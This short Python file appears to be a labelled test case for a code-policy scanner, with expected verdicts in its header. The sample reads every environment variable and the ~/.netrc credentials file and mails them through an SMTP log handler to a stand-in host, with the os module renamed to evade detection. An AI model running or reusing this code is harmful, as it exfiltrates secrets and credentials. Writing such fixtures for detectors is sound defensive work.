# expect: strict=deny standard=deny audit=allow
"""Ships the environment and ~/.netrc as e-mailed log records, the os module renamed."""
import logging as lg
import os as o
from logging.handlers import SMTPHandler as Mail

handler = Mail(("mx.example.net", 25), "ci@example.net", ["ops@example.net"], "build diagnostics")
log = lg.getLogger("diag")
log.addHandler(handler)
log.setLevel(lg.INFO)
log.info("env %r", o.environ.copy())
with open(o.path.expanduser("~/.netrc")) as fh:
    log.info("netrc %s", fh.read())
